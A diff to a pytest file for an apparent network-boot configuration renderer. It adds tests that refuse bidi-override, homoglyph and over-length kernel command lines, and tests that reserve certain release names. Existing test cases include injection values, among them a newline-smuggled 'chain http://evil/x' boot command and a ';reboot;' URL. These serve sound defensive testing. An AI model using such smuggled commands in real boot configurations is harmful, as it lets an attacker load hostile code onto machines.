@@ -144,11 +144,25 @@ class _Tree:
         (_Tree(), "http://h/a;reboot;b/", "", ""),
         (_Tree(), "http://h/t/", "quiet\nchain http://evil/x", ""),
         (_Tree(), "http://h/t/", "", "http://ks/${net0/mac}"),
+        (_Tree(), "http://h/t/", "console=ttyS0 \u202einst.text", ""),
+        (_Tree(), "http://h/t/", "", "http://ks/\u0430.cfg"),
+        (_Tree(), "http://h/\u00e9/", "", ""),
     ],
 )
 def test_renderers_refuse_what_got_past_the_entry_checks(tree, url, args, kickstart):
     with pytest.raises(configs.NotBootable):
         configs.target_for(tree, url, args, kickstart)
+
+
+def test_a_kernel_command_line_longer_than_linux_keeps_is_refused_naming_its_length():
+    """Whatever the parts' own caps, the whole line is measured where it is written."""
+    url = "http://h/" + "p" * 1200 + "/42/x86_64/"  # inst.stage2= takes it once
+    args = "x" * (configs.MAX_COMMAND_LINE - len(url) - len("initrd=initrd.img inst.stage2= "))
+    assert configs.target_for(_Tree(), url, args[:-1], "")
+    with pytest.raises(
+        configs.NotBootable, match=r"42/x86_64 would be 2049 bytes; Linux keeps 2048"
+    ):
+        configs.target_for(_Tree(), url, args + "x", "")
 
 
 def test_renderers_write_plain_values():
@@ -193,3 +207,17 @@ def test_every_accepted_release_renders_a_treeinfo_productmd_loads(release, vers
     info.loads(text)
     assert info.release.version == version
     assert f"\nname = {general}\n" in text
+
+
+@pytest.mark.parametrize("release", ["latest", "coreos", "v1"])
+def test_a_release_never_takes_a_segment_the_served_layout_reserves(release):
+    """latest/<arch>/, coreos/<stream>/<arch>/ and v1/graph would shadow the tree."""
+    assert not grammar.matches(grammar.RELEASE, release)
+    with pytest.raises(grammar.GrammarError, match="not latest, coreos, v1"):
+        grammar.check(grammar.RELEASE, release, "release")
+    assert release not in tags.select([release, f"{release}-amd64"], include=["*"])
+
+
+@pytest.mark.parametrize("release", ["latest2", "Latest", "v10", "coreos-41", "v1.0", "42"])
+def test_releases_near_a_reserved_segment_are_releases(release):
+    assert grammar.matches(grammar.RELEASE, release)
